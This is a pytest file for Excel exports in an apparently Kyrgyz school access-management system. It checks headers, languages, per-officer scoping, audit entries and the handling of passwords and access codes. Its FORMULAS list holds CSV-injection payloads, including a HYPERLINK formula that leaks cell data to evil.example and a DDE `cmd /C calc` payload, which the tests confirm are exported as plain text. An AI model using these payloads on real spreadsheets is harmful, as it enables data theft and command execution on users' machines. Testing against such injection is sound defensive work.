"""Excel exports re-opened with openpyxl: what the officer hands over, and only their own."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from access import exports, officers
from access.audit import list_audit
from access.exceptions import AccessDenied
from config.campaign import Campaign
from storage.credentials import SecretBox
from storage.database import Database
from storage.enums import AuditFlag, GrantKind, Role
from storage.models import AccessGrant, School
from tests.factories import World, make_grant


def reopen(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return sheet, [[c.value for c in row] for row in sheet.iter_rows()]


async def test_district_export_shows_initial_passwords_until_changed(
    database: Database, world: World, secret_box: SecretBox
) -> None:
    async with database.session() as s:
        issued = await officers.create_officer(
            s,
            actor=world.sokuluk_coordinator,
            role=Role.SCHOOL,
            phone="0555 400 001",
            full_name="Мамытова Нургүл Асановна",
            secret_box=secret_box,
            school_id=world.school_b.id,
        )
    async with database.session() as s:
        out = io.BytesIO()
        name = await exports.export_school_coordinators(
            s, actor=world.sokuluk_coordinator, secret_box=secret_box, out=out, language="ky"
        )
        entries, _ = await list_audit(s, actor=world.sokuluk_coordinator)
    assert name.startswith("schools_access_sokuluk-rayonu_") and name.endswith(".xlsx")
    sheet, rows = reopen(out.getvalue())
    assert rows[0] == [
        "Мектептин коду",
        "Мектептин аталышы",
        "Аты-жөнү",
        "Логин (телефон)",
        "Пароль",
    ]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= len("Гимназия им. Ч. Айтматова")
    assert rows[1:] == [
        [
            "10101",
            "Сокулук №1 орто мектеби",
            "Токтогулова Жазгүл Асановна",
            rows[1][3],
            "колдонуучу өзгөрттү",
        ],
        [
            "10102",
            "Гимназия им. Ч. Айтматова",
            "Мамытова Нургүл Асановна",
            "+996 555 400 001",
            issued.value.password,
        ],
    ]
    assert isinstance(rows[1][3], str)
    assert entries[0].action == "export.school_coordinators"
    assert entries[0].flag is AuditFlag.EXPORT and entries[0].object_repr == name


async def test_admin_exports_district_coordinators_in_russian(
    database: Database, world: World, secret_box: SecretBox
) -> None:
    async with database.session() as s:
        reset = await officers.reset_password(
            s, actor=world.admin, officer_id=world.alamudun_coordinator.id, secret_box=secret_box
        )
        out = io.BytesIO()
        await exports.export_district_coordinators(
            s, actor=world.admin, secret_box=secret_box, out=out, language="ru"
        )
        with pytest.raises(AccessDenied):
            await exports.export_district_coordinators(
                s,
                actor=world.sokuluk_coordinator,
                secret_box=secret_box,
                out=io.BytesIO(),
                language="ru",
            )
        with pytest.raises(AccessDenied):
            await exports.export_school_coordinators(
                s, actor=world.teacher_a, secret_box=secret_box, out=io.BytesIO(), language="ru"
            )
    _, rows = reopen(out.getvalue())
    assert rows[0] == ["Область", "Район", "ФИО", "Логин (телефон)", "Пароль"]
    assert [r[1:] for r in rows[1:]] == [
        ["Аламүдүн району", "Иванова Ольга Петровна", rows[1][3], reset.value.password],
        ["Сокулук району", "Осмонов Талант Бекович", rows[2][3], "изменён пользователем"],
    ]


async def test_grant_export_has_codes_and_links_of_the_scope_only(
    database: Database, world: World, secret_box: SecretBox, campaign: Campaign
) -> None:
    async with database.session() as s:
        await make_grant(
            s,
            school=world.school_a,
            granted_by=world.teacher_a,
            secret_box=secret_box,
            phone_number="+996555500001",
            full_name="Асанова Айпери",
            code="ABCD2345",
        )
        used = await make_grant(
            s,
            school=world.school_a,
            granted_by=world.teacher_a,
            secret_box=secret_box,
            phone_number="+996555500002",
            full_name="Бекова Элнура",
            code="EFGH6789",
        )
        used.access_code_used_at = datetime.now(UTC)
        await make_grant(
            s,
            school=world.school_c,
            granted_by=world.teacher_c,
            secret_box=secret_box,
            phone_number="+996555500003",
            code="JKLM2345",
        )
        await make_grant(
            s,
            school=world.school_b,
            granted_by=world.sokuluk_coordinator,
            secret_box=secret_box,
            phone_number="+996555500004",
            kind=GrantKind.MZHB,
            code="NPQR2345",
        )
    async with database.session() as s:
        out = io.BytesIO()
        name = await exports.export_grants(
            s,
            actor=world.teacher_a,
            kind=GrantKind.CURRENT,
            campaign=campaign,
            secret_box=secret_box,
            out=out,
            language="ru",
            bot_username="ortkg_bot",
            whatsapp_number="whatsapp:+996 700 000 111",
            login_base_url="http://x",
        )
        with pytest.raises(AccessDenied):
            await exports.export_grants(
                s,
                actor=world.teacher_a,
                kind=GrantKind.MZHB,
                campaign=campaign,
                secret_box=secret_box,
                out=io.BytesIO(),
                language="ru",
                bot_username=None,
                whatsapp_number=None,
            )
    assert name.startswith("graduates_access_10101_")
    sheet, rows = reopen(out.getvalue())
    assert rows == [
        [
            "ФИО",
            "Телефон",
            "Код школы",
            "Код доступа",
            "Ссылка для Telegram",
            "Ссылка для WhatsApp",
        ],
        [
            "Асанова Айпери",
            "+996 555 500 001",
            "10101",
            "ABCD2345",
            "https://t.me/ortkg_bot?start=ABCD2345",
            "https://wa.me/996700000111?text=ABCD2345",
        ],
        ["Бекова Элнура", "+996 555 500 002", "10101", "использован", None, None],
    ]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"


async def test_mzhb_export_of_a_district_without_channels(
    database: Database, world: World, secret_box: SecretBox, campaign: Campaign
) -> None:
    async with database.session() as s:
        await make_grant(
            s,
            school=world.school_b,
            granted_by=world.sokuluk_coordinator,
            secret_box=secret_box,
            phone_number="+996555600001",
            kind=GrantKind.MZHB,
            code="NPQR2345",
        )
        revoked = await make_grant(
            s,
            school=world.school_b,
            granted_by=world.sokuluk_coordinator,
            secret_box=secret_box,
            phone_number="+996555600002",
            kind=GrantKind.MZHB,
        )
        revoked.revoked_at = datetime.now(UTC)
    async with database.session() as s:
        out = io.BytesIO()
        name = await exports.export_grants(
            s,
            actor=world.sokuluk_coordinator,
            kind=GrantKind.MZHB,
            campaign=campaign,
            secret_box=secret_box,
            out=out,
            language="ky",
            bot_username=None,
            whatsapp_number=None,
        )
        alamudun = io.BytesIO()
        await exports.export_grants(
            s,
            actor=world.alamudun_coordinator,
            kind=GrantKind.MZHB,
            campaign=campaign,
            secret_box=secret_box,
            out=alamudun,
            language="ky",
            bot_username=None,
            whatsapp_number=None,
        )
        assert await s.get(AccessGrant, revoked.id) is not None
    assert name.startswith("mzhb_access_sokuluk-rayonu_")
    _, rows = reopen(out.getvalue())
    assert rows == [
        ["Аты-жөнү", "Телефон", "Мектептин коду", "Кирүү коду"],
        ["Жумабеков Нурлан Асылбекович", "+996 555 600 001", "10102", "NPQR2345"],
    ]
    _, empty = reopen(alamudun.getvalue())
    assert empty == [["Аты-жөнү", "Телефон", "Мектептин коду", "Кирүү коду"]]


# Values a spreadsheet would evaluate if they were written as they are (OWASP CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Сокулук №1")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that Excel would evaluate, as the file says (not as shown)."""
    book = load_workbook(io.BytesIO(data))
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name):
                found.append(name)
    return found


@pytest.mark.parametrize("name", FORMULAS)
async def test_a_school_name_that_looks_like_a_formula_is_exported_as_text(
    database: Database, world: World, secret_box: SecretBox, name: str
) -> None:
    async with database.session() as s:
        school = await s.get(School, world.school_a.id)
        school.name = name
    async with database.session() as s:
        out = io.BytesIO()
        await exports.export_school_coordinators(
            s, actor=world.sokuluk_coordinator, secret_box=secret_box, out=out, language="ru"
        )
    assert formula_cells(out.getvalue()) == []
    _, rows = reopen(out.getvalue())
    assert [row[1] for row in rows[1:]][0] == name  # shown exactly as typed
    assert rows[1][3].startswith("+996 ")  # phones stay readable text


def test_the_dashboard_workbook_writes_formulas_as_text() -> None:
    from admin_web.views.dashboard import _write

    out = io.BytesIO()
    _write(out, [("Мектептер", ["Код", "Мектеп", "Саны"], [["1", f, 3] for f in FORMULAS])])
    assert formula_cells(out.getvalue()) == []
    _, rows = reopen(out.getvalue())
    assert [row[1] for row in rows[1:]] == FORMULAS
